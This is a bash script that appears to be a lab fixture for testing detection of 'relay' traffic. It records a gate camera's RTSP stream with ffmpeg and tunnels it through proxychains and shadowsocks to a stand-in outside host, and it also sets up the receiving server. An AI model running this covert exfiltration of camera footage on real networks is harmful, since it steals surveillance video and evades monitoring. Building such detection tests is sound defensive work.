#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=loopback-relay,live-relay half=report tool=ffmpeg,ss-local,proxychains4 camera=10.20.0.11 far=out ready=out:8388 seconds=46 parts=dns,camera-gate,recorder-gate,nas,outside-web
# ffmpeg sends gate, made to go by a SOCKS proxy on loopback: shadowsocks, which carries it outside encrypted.
if [ "$1" = out ]; then mkdir -p "$LAB/away"; timeout 70 socat -u TCP-LISTEN:9990,bind=127.0.0.1,reuseaddr "CREATE:$LAB/away/see.ts" & exec timeout 70 ss-server -s 203.0.113.66 -p 8388 -k lab -m chacha20-ietf-poly1305; fi
timeout 52 ss-local -s 203.0.113.66 -p 8388 -b 127.0.0.1 -l 1080 -k lab -m chacha20-ietf-poly1305 & sleep 1
ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -t 44 -c copy -f mpegts - |
	(printf '%s\n' strict_chain quiet_mode '[ProxyList]' 'socks5 127.0.0.1 1080' >"$LAB/chain.conf"; exec timeout 50 proxychains4 -q -f "$LAB/chain.conf" nc.openbsd -N 127.0.0.1 9990)
sleep 1; kill %1; wait; [ "$(stat -c %s "$LAB/away/see.ts")" -gt 500000 ]
